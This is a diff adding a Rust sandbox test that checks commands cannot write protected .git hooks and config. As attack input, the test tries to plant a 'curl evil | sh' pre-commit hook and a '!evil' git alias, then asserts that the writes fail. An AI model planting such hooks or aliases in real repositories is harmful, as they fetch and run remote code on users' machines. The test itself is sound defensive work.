@@ -809,3 +809,45 @@ fn tail(s: &str) -> &str {
         .unwrap_or(0);
     &s[start..]
 }
+
+#[test]
+fn commands_cannot_write_protected_git_paths() {
+    if skip(
+        "commands_cannot_write_protected_git_paths",
+        Need::LandlockSeccomp,
+    ) {
+        return;
+    }
+    if !rustix::process::geteuid().is_root() {
+        crate::common::skip_msg(
+            "commands_cannot_write_protected_git_paths",
+            "not root: protected paths are enforced for commands only through a private mount \
+             namespace, which needs root (the file tools still refuse them)",
+        );
+        return;
+    }
+    let sb = Sandbox::new();
+    std::fs::create_dir_all(sb.ws().join(".git/hooks")).unwrap();
+    std::fs::write(sb.ws().join(".git/config"), "[core]\n").unwrap();
+    let run = sb.exec(
+        &[],
+        &[
+            "sh",
+            "-c",
+            "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[alias] x = !evil' >> .git/config; \
+             echo ok > allowed.txt",
+        ],
+    );
+    assert!(run.stderr.contains("Read-only file system"), "{run:?}");
+    assert!(!sb.ws().join(".git/hooks/pre-commit").exists());
+    assert_eq!(
+        std::fs::read_to_string(sb.ws().join(".git/config")).unwrap(),
+        "[core]\n"
+    );
+    // The rest of the workspace stays writable, and the bind did not leak to the host.
+    assert_eq!(
+        std::fs::read_to_string(sb.ws().join("allowed.txt")).unwrap(),
+        "ok\n"
+    );
+    std::fs::write(sb.ws().join(".git/hooks/host-can-write"), "x").unwrap();
+}
